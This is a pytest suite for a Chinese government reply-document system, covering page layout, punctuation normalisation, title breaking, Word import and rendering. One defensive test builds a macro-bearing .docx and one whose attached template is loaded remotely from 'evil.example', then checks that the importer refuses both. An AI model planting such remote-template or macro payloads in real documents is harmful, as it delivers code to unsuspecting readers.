"""Replies as a document secretary reads them: the PDF LibreOffice makes, the 版记 on an even last page,
22 × 28, no lost commas, full-width punctuation, title breaks, Word import and the shell renderer."""
import io
import json
import shutil
import zipfile
from datetime import date
from pathlib import Path

import pytest
from docx import Document
from sqlalchemy import select

from replyflow.documents import layout
from replyflow.documents.checker import check_docx
from replyflow.documents.importer import ImportRefused, read_docx
from replyflow.documents.inspection import inspect
from replyflow.documents.pdfcheck import Expected, PdfPages, check_pdf
from replyflow.documents.punctuation import halfwidth_left, normalise
from replyflow.documents.reply import ReplyContent, render, render_with_layout
from replyflow.documents.titles import UNBREAKABLE, balance_title, breaks_inside_words
from replyflow.extensions import db
from replyflow.models import Reply

from .docx_tools import mutate, w
from .factories import make_case

SEEDS = Path(__file__).resolve().parents[1] / "replyflow" / "demo" / "seeds"
ARTICLE = [p.strip() for p in (SEEDS / "article_talent.txt").read_text(encoding="utf-8").split("\n") if p.strip()]
EXAMPLE = Path(__file__).resolve().parents[1] / "docs" / "examples" / "reply.json"
needs_pdf = pytest.mark.skipif(shutil.which("soffice") is None or shutil.which("pdftotext") is None,
                               reason="LibreOffice (soffice) and poppler-utils are not installed")
ORGANS = ["市委办公室", "市人大常委会办公室", "市政府办公室", "市政协办公室", "市发展和改革委员会", "市财政局",
          "市人力资源和社会保障局", "市科学技术局", "市教育局", "市工业和信息化局", "市商务局", "市住房和城乡建设局"]


def content(**changes):
    base = dict(mark="中共常州市委人才工作领导小组办公室文件", doc_number="常人才办〔2025〕24号",
                title="关于对市政协十五届四次会议委员提案第0294号的答复", salutation="曹留俊委员：",
                body="\n".join(ARTICLE[:6]), issuing_organ="中共常州市委人才工作领导小组办公室",
                issue_date=date(2025, 6, 16), answer_class="A", disclosure="不公开", signer_name="吴寅",
                handler_name="罗杨", phone="15951228660", cc="市委办公室、市政协提案委")
    base.update(changes)
    return ReplyContent(**base)


def cc_of_lines(n: int) -> str | None:
    """A 抄送 that wraps into `n` lines of the 版记."""
    if n == 0:
        return None
    names, k = [], 0
    while True:
        names.append(ORGANS[k % len(ORGANS)])
        k += 1
        text = "，".join(names) + "。"
        from replyflow.documents.reply import CC_EM
        if len(layout.wrap(text, CC_EM)) == n and len(layout.wrap("，".join(names + [ORGANS[k % len(ORGANS)]])
                                                                   + "。", CC_EM)) > n:
            return "，".join(names)


def body_ending(parity: str, cc) -> str:
    """A body from the article that the layout estimate ends on an odd or an even page."""
    for count in range(2, len(ARTICLE) + 1):
        body = "\n".join(ARTICLE[:count])
        _, placed = render_with_layout(content(body=body, cc=cc))
        if (placed.body_pages % 2 == 1) == (parity == "odd"):
            return body
    raise AssertionError("no body of that parity")


def failed(results):
    return [f"{r.rule}: {r.measured}" for r in results if not r.passed]


def pdf_of(data: bytes) -> bytes:
    from replyflow.documents.pdf import docx_to_pdf
    return docx_to_pdf(data)


# -- the 版记 -----------------------------------------------------------------------------------------

@needs_pdf
@pytest.mark.parametrize("cc_lines", [0, 1, 2, 3, 6])
@pytest.mark.parametrize("parity", ["odd", "even"])
def test_imprint_on_an_even_last_page_with_every_line(cc_lines, parity):
    cc = cc_of_lines(cc_lines)
    c = content(cc=cc, body=body_ending(parity, cc))
    data, placed = render_with_layout(c)
    assert not failed(check_docx(data))
    results = inspect(data, pdf=pdf_of(data)).results
    assert not failed(results), failed(results)
    rules = {r.rule for r in results}
    assert {"末页为双页（双面印刷）", "版记每行在末页、页码区之上", "PDF 中正文一字不缺（含行末标点）", "版记不压正文",
            "署名和成文日期与正文同页（不单独成页）"} <= rules
    pdf = PdfPages(pdf_of(data))
    try:
        last = pdf.page_lines(pdf.count)
        if cc:
            start = next(i for i, ln in enumerate(last) if ln.text.startswith("抄送"))
            cc_rows = [ln for ln in last[start:] if "印发" not in ln.text and "办公室" != ln.text.strip()]
            # the wrapped lines of 抄送 stand under its first name, not under 抄送
            assert len(cc_rows) >= cc_lines
            names_x = cc_rows[0].x0 + 3 * 14 / 72 * 25.4
            assert all(abs(ln.x0 - names_x) < 1.5 for ln in cc_rows[1:cc_lines]), [ln.x0 for ln in cc_rows]
            assert "".join(ln.text for ln in last).replace(" ", "").count(cc.replace("，", "")[:8]) <= 1
        # the 版记's rules span the full text width: measured as the line under 印发 in pixels
        if placed.blank_pages:
            assert not pdf.page_number_shown(pdf.count)
    finally:
        pdf.close()


def test_placement_follows_the_body_end():
    assert layout.imprint_placement(layout.Position(2, 3000), 1200).blank_pages == 0
    assert layout.imprint_placement(layout.Position(1, 3000), 1200).blank_pages == 1
    assert layout.imprint_placement(layout.Position(4, 12000), 1200).blank_pages == 2
    assert layout.imprint_placement(layout.Position(3, 12000), 1200).blank_pages == 1


def test_checker_knows_the_imprint_page():
    data, placed = render_with_layout(content(body="你们提出的提案收悉，现答复如下：\n感谢关心。", signer_name=None,
                                              handler_name=None, phone=None))
    assert placed.blank_pages == 1 and not failed(check_docx(data))

    def drop_section_break(root):
        for p in root.iter(w("p")):
            ppr = p.find(w("pPr"))
            if ppr is not None and ppr.find(w("sectPr")) is not None:
                ppr.remove(ppr.find(w("sectPr")))
    broken = mutate(data, "word/document.xml", drop_section_break)
    assert any(rule.startswith("版记页为双页") for rule in failed(check_docx(broken)))


# -- 22 lines × 28 characters, nothing lost ------------------------------------------------------------

@needs_pdf
def test_page_two_of_a_long_reply_is_22_lines_of_28():
    body = "\n".join(p for p in ARTICLE if p)
    data = render(content(body=normalise(body)[0], cc=None))
    pdf = pdf_of(data)
    pages = PdfPages(pdf)
    try:
        assert pages.count >= 4
        lines = pages.page_lines(2)
        assert len(lines) == 22
        chinese_full = [ln.text.replace(" ", "") for ln in lines
                        if all("\u4e00" <= ch <= "\u9fff" or ch in "，。、；：“”《》（）" for ch in ln.text.replace(" ", ""))
                        and ln.x1 > 180 and ln.x0 < 29.5]
        assert chinese_full and all(27 <= len(t) <= 29 for t in chinese_full)
        assert sum(len(t) == 28 for t in chinese_full) >= len(chinese_full) * 0.7
    finally:
        pages.close()
    results = {r.rule: r for r in check_pdf(pdf, Expected.of_docx(data))}
    assert results["满页 22 行"].passed and results["满行 28 字"].passed, results


@needs_pdf
def test_commas_and_enumeration_marks_at_line_ends_stay_in_the_pdf():
    # each line of these paragraphs ends on a comma or a 顿号: 26 characters on the first line, 28 after
    first = "一" * 25 + "，"
    rest = ["二" * 27 + "、", "三" * 27 + "，", "四" * 27 + "、"]
    paragraphs = [first + "".join(rest) + "完。", "五" * 25 + "、" + "六" * 27 + "，" + "七" * 10 + "。"]
    c = content(body="\n".join(paragraphs), cc=None)
    pdf = pdf_of(render(c))
    results = check_pdf(pdf, Expected.of_docx(render(c)))
    assert not failed(results), failed(results)
    pages = PdfPages(pdf)
    try:
        flat = pages.flat_text()
        assert flat.count("，") == 3 and flat.count("、") == 3
    finally:
        pages.close()


# -- geometry --------------------------------------------------------------------------------------------

@needs_pdf
def test_red_line_and_page_number_dash_distances():
    data = render(content())
    results = {r.rule: r for r in check_pdf(pdf_of(data), Expected.of_docx(data))}
    assert results["红色分隔线距发文字号 4 mm"].passed, results["红色分隔线距发文字号 4 mm"]
    assert results["页码一字线距版心下边缘 7 mm"].passed, results["页码一字线距版心下边缘 7 mm"]


@needs_pdf
def test_signing_organ_is_centred_over_the_date():
    for organ in ("常州市发展和改革委员会", "中共常州市委人才工作领导小组办公室"):
        data = render(content(signs=True, issuing_organ=organ))
        assert not failed(check_docx(data))
        results = {r.rule: r for r in check_pdf(pdf_of(data), Expected.of_docx(data))}
        assert results["发文机关署名以成文日期为准居中，日期右空四字"].passed, results


# -- punctuation -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("typed,wanted", [
    ("今年,我们完成了工作:一是(见附件1)。", "今年，我们完成了工作：一是（见附件1）。"),
    ("是否可行?请研究!", "是否可行？请研究！"),
    ("一是加强领导;二是完善制度", "一是加强领导；二是完善制度"),
    ("(一)加强组织领导", "（一）加强组织领导"),
    ("(1)完善制度", "（1）完善制度"),
    ('他说"要加快"和"推进"', "他说“要加快”和“推进”"),
    ("所谓'五星卡'", "所谓‘五星卡’"),
    ("使用Python,并且", "使用Python，并且"),
    ("完善配套规划.下一步加强督查.", "完善配套规划。下一步加强督查。"),
    ("完善配套规划. 下一步", "完善配套规划。下一步"),
])
def test_half_width_marks_in_chinese_become_full_width(typed, wanted):
    assert normalise(typed)[0] == wanted
    assert halfwidth_left(wanted) == []


@pytest.mark.parametrize("kept", [
    "共投入1,000万元", "会议于10:30开始", "增长3.5个百分点", "见附件.docx", "等等...", "版本1.2",
    "详见 https://www.changzhou.gov.cn/a,b?c=1", "邮箱 rc@cz.gov.cn",
    "Hello, world! 这是英文", "增长3.5%", "English (text) 混排", "don't", "比例为3:2",
])
def test_numbers_urls_and_english_are_left_alone(kept):
    assert normalise(kept)[0] == kept


def test_saving_a_draft_makes_punctuation_full_width_and_says_so(world, browser):
    s = make_case(world, "acknowledged")
    db.session.commit()
    a = s.assignments[0]
    handler = browser("luoyang")
    url = f"/assignments/{a.id}/reply"
    form = {"answer_class": "A", "disclosure": "public", "doc_number": "", "title": "关于对第0294号提案的答复",
            "salutation": "曹留俊委员:", "body": "你们的提案收悉,现答复如下:\n一是加强领导;二是完善制度(见附件)。\n"
            "详见 https://www.cz.gov.cn/a,b 共1,000万元。", "signer_name": "吴寅", "handler_name": "罗杨",
            "phone": "15951228660", "cc": "市委办公室,市政协提案委", "issuing_organ": "人才办", "issue_date": "",
            "send": "0"}
    page = handler.follow(handler.submit(url, url, form))
    assert "处标点改为中文全角" in page and "“,”→“，”" in page
    reply = db.session.scalar(select(Reply).where(Reply.assignment_id == a.id))
    assert reply.salutation == "曹留俊委员："
    assert reply.body == ("你们的提案收悉，现答复如下：\n一是加强领导；二是完善制度（见附件）。\n"
                          "详见 https://www.cz.gov.cn/a,b 共1,000万元。")
    assert reply.cc == "市委办公室，市政协提案委"


# -- titles ------------------------------------------------------------------------------------------------

REAL_TITLES = [
    "关于对市政协十五届四次会议委员提案第0294号的答复",
    "关于市政协十一届五次会议委员提出的关于加快推进城市更新和老旧小区改造工作的建议的答复",
    "关于对政协第十二届常州市委员会第四次会议第112号提案的答复",
    "对市十六届人大五次会议第0078号建议的答复",
    "关于对市十七届人大一次会议第2025D048号建议《关于进一步优化营商环境助力民营经济高质量发展的建议》的答复",
    "关于对九三学社常州市委提出的关于进一步加强海外高层次人才引进和服务保障工作的提案的答复",
]


@pytest.mark.parametrize("title", REAL_TITLES)
def test_titles_break_between_words_in_balanced_lines(title):
    lines = balance_title(title, ("九三学社常州市委",))
    assert "".join(lines) == title
    assert not breaks_inside_words(lines, ("九三学社常州市委",))
    pos = 0
    for line in lines[:-1]:
        pos += len(line)
        for pattern in UNBREAKABLE:
            for m in pattern.finditer(title):
                assert not (m.start() < pos < m.end()), (lines, m.group())
    if len(lines) > 1:
        from replyflow.documents.layout import text_width
        widths = [text_width(line) for line in lines]
        assert max(widths) - min(widths) <= 6, lines
    for bad in ("十一|届", "第|十二届", "委员提|出", "十五届四次|会议"):
        head, tail = bad.split("|")
        assert not any(a.endswith(head) and b.startswith(tail) for a, b in zip(lines, lines[1:])), lines


def test_the_checker_reports_a_title_cut_inside_a_word():
    assert breaks_inside_words(["关于市政协十一", "届五次会议委员提出的建议的答复"])
    assert breaks_inside_words(["关于市政协十一届五次会议委员提", "出的建议的答复"])


# -- Word import -------------------------------------------------------------------------------------------

def word_reply() -> bytes:
    doc = Document()
    doc.add_paragraph("关于对市政协十五届四次会议")
    doc.add_paragraph("委员提案第0294号的答复")
    doc.add_paragraph("曹留俊委员：")
    doc.add_paragraph("你们提出的提案收悉,现答复如下:")
    doc.add_paragraph("一、基本情况")
    doc.add_paragraph("（一）引才渠道。近年来成效明显。")
    doc.add_paragraph("加强组织领导。", style="List Number")
    doc.add_paragraph("完善工作机制。", style="List Number")
    table = doc.add_table(rows=3, cols=3)
    for r, row in enumerate([["项目", "2023年", "2024年"], ["入选人数", "98", "105"], ["立项数", "480", "510"]]):
        for c, text in enumerate(row):
            table.cell(r, c).text = text
    doc.add_paragraph("感谢您对人才工作的关心。")
    doc.add_paragraph("中共常州市委人才工作领导小组办公室")
    doc.add_paragraph("2025年6月16日")
    doc.add_paragraph("签发人：吴寅")
    doc.add_paragraph("联系电话：15951228660")
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def test_a_word_reply_is_read_with_levels_and_a_table():
    imported = read_docx(word_reply())
    assert imported.title == "关于对市政协十五届四次会议委员提案第0294号的答复"
    assert imported.salutation == "曹留俊委员："
    lines = imported.body.split("\n")
    assert lines[0] == "你们提出的提案收悉，现答复如下："
    assert "一、基本情况" in lines and "（一）引才渠道。近年来成效明显。" in lines
    assert "1.加强组织领导。" in lines and "2.完善工作机制。" in lines
    assert "项目\t2023年\t2024年" in lines and "入选人数\t98\t105" in lines
    assert imported.tables == 1
    assert imported.fields == {"issuing_organ": "中共常州市委人才工作领导小组办公室", "signer_name": "吴寅",
                               "phone": "15951228660"}


def test_a_tab_separated_body_becomes_a_real_table():
    body = "现将有关数据报告如下：\n项目\t2023年\t2024年\n入选人数\t98\t105\n立项数\t480\t510\n以上数据截至年底。"
    data = render(content(body=body))
    assert not failed(check_docx(data))
    doc = Document(io.BytesIO(data))
    assert len(doc.tables) == 1
    table = doc.tables[0]
    assert [c.text for c in table.rows[1].cells] == ["入选人数", "98", "105"]
    assert sum(int(col.width) for col in table.columns) == pytest.approx(156 / 25.4 * 914400, rel=0.01)


def _zip(parts: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, content_ in parts.items():
            z.writestr(name, content_)
    return out.getvalue()


def test_macros_external_templates_and_bare_zips_are_refused():
    good = zipfile.ZipFile(io.BytesIO(word_reply()))
    parts = {n: good.read(n) for n in good.namelist()}
    docm = dict(parts)
    docm["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"
    docm["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
    with pytest.raises(ImportRefused, match="宏"):
        read_docx(_zip(docm))
    linked = dict(parts)
    linked["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
    with pytest.raises(ImportRefused, match="外部"):
        read_docx(_zip(linked))
    with pytest.raises(ImportRefused, match="不是 Word"):
        read_docx(_zip({"readme.txt": b"hi"}))
    with pytest.raises(ImportRefused, match="不是 Word"):
        read_docx(b"plain text renamed .docx")


def test_importing_into_the_editor_fills_it_and_saves_nothing(world, browser):
    s = make_case(world, "acknowledged")
    db.session.commit()
    a = s.assignments[0]
    url = f"/assignments/{a.id}/reply/import"
    for username in ("zhanglei", "wuyin", "clerk_zx", "caoliujun"):
        response = browser(username).post(url, files={"docx": (io.BytesIO(word_reply()), "答复.docx")})
        assert response.status_code in (403, 404), username
    handler = browser("luoyang")
    page = handler.submit(f"/assignments/{a.id}/reply", url, files={"docx": (io.BytesIO(word_reply()), "答复.docx")},
                          expect=200).text
    assert "已从「答复.docx」读入" in page and "表格 1 个" in page and "尚未保存" in page
    assert "入选人数\t98\t105" in page and "关于对市政协十五届四次会议委员提案第0294号的答复" in page
    assert db.session.scalar(select(Reply).where(Reply.assignment_id == a.id)) is None
    # 保存 on the filled editor goes to the editor, not back to the import
    assert f'action="/assignments/{a.id}/reply"' in page
    form = {"answer_class": "A", "disclosure": "public", "doc_number": "", "title": "关于对第0294号提案的答复",
            "salutation": "曹留俊委员：", "body": "入选人数\t98\t105\n立项数\t480\t510", "signer_name": "吴寅",
            "handler_name": "罗杨", "phone": "1", "cc": "", "issuing_organ": "人才办", "issue_date": "", "send": "0"}
    handler.post(f"/assignments/{a.id}/reply", form, token=handler.token(page), expect=302)
    saved = db.session.scalar(select(Reply).where(Reply.assignment_id == a.id))
    assert saved.body == "入选人数\t98\t105\n立项数\t480\t510"
    versions = len(saved.versions)
    bad = _zip({"word/vbaProject.bin": b"x", "word/document.xml": b"<x/>", "[Content_Types].xml": b"macroEnabled"})
    page = handler.follow(handler.post(url, files={"docx": (io.BytesIO(bad), "宏.docx")}, expect=302))
    assert "未导入「宏.docx」" in page and "宏" in page
    db.session.expire_all()
    kept = db.session.scalar(select(Reply).where(Reply.assignment_id == a.id))
    assert len(kept.versions) == versions and kept.body == "入选人数\t98\t105\n立项数\t480\t510"


# -- the shell renderer and kept PDFs ------------------------------------------------------------------------

def test_render_reply_from_json(app, tmp_path):
    runner = app.test_cli_runner()
    out = tmp_path / "reply.docx"
    result = runner.invoke(args=["render-reply", str(EXAMPLE), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert "FAIL" not in result.output
    assert not failed(check_docx(out.read_bytes()))
    texts = [p.text for p in Document(str(out)).paragraphs]
    assert "常人才办〔2025〕24号" in texts and "曹留俊委员：" in texts and "签发人：吴寅" in texts
    bad = tmp_path / "bad.json"
    spec = json.loads(EXAMPLE.read_text(encoding="utf-8"))
    for change, message in (({"issue_date": "2025/6/16"}, "YYYY-MM-DD"), ({"format": "memo"}, "file 或 letter"),
                            ({"title": ""}, "缺少必填项"), ({"cc": "x", "colour": "red"}, "未知的键")):
        bad.write_text(json.dumps({**spec, **change}, ensure_ascii=False), encoding="utf-8")
        result = runner.invoke(args=["render-reply", str(bad), "-o", str(tmp_path / "x.docx")])
        assert result.exit_code == 1 and message in result.output, result.output
    bad.write_text("{not json", encoding="utf-8")
    result = runner.invoke(args=["render-reply", str(bad), "-o", str(tmp_path / "x.docx")])
    assert result.exit_code == 1 and "不是有效的 JSON" in result.output
    assert not (tmp_path / "x.docx").exists()


@needs_pdf
def test_render_reply_with_pdf_and_letter_format(app, tmp_path):
    spec = json.loads(EXAMPLE.read_text(encoding="utf-8"))
    spec_file = tmp_path / "letter.json"
    spec_file.write_text(json.dumps({**spec, "format": "letter", "cc": ORGANS[:9]}, ensure_ascii=False),
                         encoding="utf-8")
    out = tmp_path / "letter.docx"
    result = app.test_cli_runner().invoke(args=["render-reply", str(spec_file), "-o", str(out), "--pdf"])
    assert result.exit_code == 0, result.output
    pdf = out.with_suffix(".pdf").read_bytes()
    results = {r.rule: r for r in inspect(out.read_bytes(), pdf=pdf).results}
    # page 1's lower double line 20 mm above the foot, and pages 2+ keep the page number 7 mm under the text
    for rule in ("末页为双页（双面印刷）", "版记每行在末页、页码区之上", "信函格式：标志下 4 mm 红色双线",
                 "信函格式：下红色双线距下页边 20 mm", "页码一字线距版心下边缘 7 mm"):
        assert results[rule].passed, results[rule]
    assert not failed(results.values())


@needs_pdf
def test_a_signed_replys_pdf_is_made_once_and_kept(world, browser, app):
    s = make_case(world, "delivered")
    db.session.commit()
    reply = s.assignments[0].current_reply
    # its number was taken at signing, after the check: the PDF of the frozen copy is made at the first download
    assert reply.signed_pdf is None
    member = browser("caoliujun")
    first = member.get(f"/replies/{reply.id}/pdf").data
    db.session.expire_all()
    assert db.session.get(Reply, reply.id).signed_pdf == first
    assert member.get(f"/replies/{reply.id}/pdf").data == first
    assert not failed(inspect(reply.signed_docx, pdf=first).results)

    # a number the handler typed is in the document checked before the lock: that check's PDF is kept
    s2 = make_case(world, "awaiting_signoff", number=295)
    a = s2.assignments[0]
    a.current_reply.doc_number = "常人才办〔2025〕77号"
    db.session.commit()
    from replyflow.services import replies as reply_service
    prepared = reply_service.prepare_signing(world.signer, a)
    reply_service.sign_reply(world.signer, a, None, prepared)
    db.session.commit()
    signed = a.current_reply
    assert signed.signed_pdf == prepared.rendered.pdf and signed.signed_pdf.startswith(b"%PDF")
    assert not failed(inspect(signed.signed_docx, pdf=signed.signed_pdf).results)


def test_the_preview_shows_what_the_document_holds(world, browser):
    """The web preview is built from the same content and body parts as the .docx: a letter's mark without
    文件 over a double line, tables as tables, heading levels, every 签发人 line alike, the 版记."""
    s = make_case(world, "acknowledged")
    db.session.commit()
    a = s.assignments[0]
    a.department.doc_format, a.department.header_title = "letter", "中共常州市委人才工作领导小组办公室文件"
    db.session.commit()
    handler = browser("luoyang")
    url = f"/assignments/{a.id}/reply"
    form = {"answer_class": "A", "disclosure": "public", "doc_number": "", "title": "关于对第0294号提案的答复",
            "salutation": "曹留俊委员：", "body": "现答复如下：\n一、引才\n年份\t人数\n2024\t120\n2025\t150\n（一）服务",
            "signer_name": "吴寅", "handler_name": "罗杨", "phone": "15951228660", "cc": "市委办公室",
            "issuing_organ": "人才办", "issue_date": "", "send": "0"}
    handler.follow(handler.submit(url, url, form))
    reply = db.session.scalar(select(Reply).where(Reply.assignment_id == a.id))
    page = handler.page(f"/replies/{reply.id}")
    assert '>中共常州市委人才工作领导小组办公室</div>' in page and 'class="rf-mark"' in page and "rf-double-line" in page
    assert "<th>年份</th><th>人数</th>" in page and "<td>2025</td><td>150</td>" in page
    assert 'class="body rf-h1">一、引才' in page and 'class="body rf-h2">（一）服务' in page
    for line in ("签发人：吴寅", "经办人：罗杨", "联系电话：15951228660"):
        assert f'<p class="body">{line}</p>' in page
    assert "抄送：市委办公室。" in page and "印发" not in page   # a letter's 版记 has no 印发 line
    assert 'class="mark' not in page   # Bootstrap's .mark would paint the mark yellow
    document = Document(io.BytesIO(handler.get(f"/replies/{reply.id}/download").data))
    header = document.sections[0].first_page_header
    assert header.paragraphs[0].text == "中共常州市委人才工作领导小组办公室"
